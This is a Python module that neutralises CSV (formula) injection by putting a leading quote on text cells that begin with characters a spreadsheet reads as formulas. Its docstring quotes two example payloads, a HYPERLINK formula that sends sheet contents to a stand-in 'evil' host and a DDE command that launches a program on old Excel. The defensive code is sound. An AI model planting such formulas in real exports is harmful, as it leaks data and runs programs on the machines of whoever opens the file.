"""CSV files that are safe to open in a spreadsheet.

Custom ids, treatment names, model names and error messages come from outside (a results
file, a server). A cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return,
which some spreadsheets skip before looking) is read by Excel, LibreOffice and Google Sheets
as a formula: `=HYPERLINK("http://evil/?"&A1, "click")` leaks the sheet, `=cmd|' /C calc'!A0`
runs a program on old Excel (CSV injection). OWASP's advice is a leading single quote, which
the spreadsheet shows as text; cachecast does that for every text cell of every CSV it writes
(audit, ledger, reconcile). Numbers are written as numbers (a negative difference stays
-0.5), so only strings are changed: a text cell starting with one of those characters reads
with a leading `'` in the file.
"""
from __future__ import annotations

import csv
import re
from pathlib import Path
from typing import Any, Iterable, Sequence

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
# The tables cachecast writes into a --csv folder: audit_*, ledger_*, reconcile_* (and one being
# written). A folder holding anything else is not an earlier CSV output (cachecast._output).
CSV_TABLES = re.compile(r"\.?(audit|ledger|reconcile)_[A-Za-z0-9_]+\.csv(\.partial)?")


def neutralise(value: Any) -> Any:
    """The value as a CSV cell: text that a spreadsheet would run as a formula is quoted."""
    if isinstance(value, str) and value.startswith(FORMULA_START):
        return "'" + value
    return value


def write_rows(path: Path, header: Sequence[str], rows: Iterable[Sequence[Any]]) -> Path:
    """Write a CSV file (header first), every text cell neutralised; None is an empty cell."""
    path = Path(path)
    with path.open("w", newline="", encoding="utf-8") as fh:
        writer = csv.writer(fh)
        writer.writerow([neutralise(h) for h in header])
        for row in rows:
            writer.writerow(["" if v is None else neutralise(v) for v in row])
    return path


def safe_frame(frame: Any) -> Any:
    """A copy of a pandas DataFrame with every text cell (and column name) neutralised, for a
    CSV written from it (DuckDB's COPY in analyse.ledger.write_csv); number, date and boolean
    columns are left as they are."""
    import pandas as pd

    out = frame.copy()
    out.columns = [neutralise(c) for c in out.columns]
    for column in out.columns:
        series = out[column]
        if series.dtype == object or pd.api.types.is_string_dtype(series.dtype):
            out[column] = series.map(neutralise).astype(object)
    return out
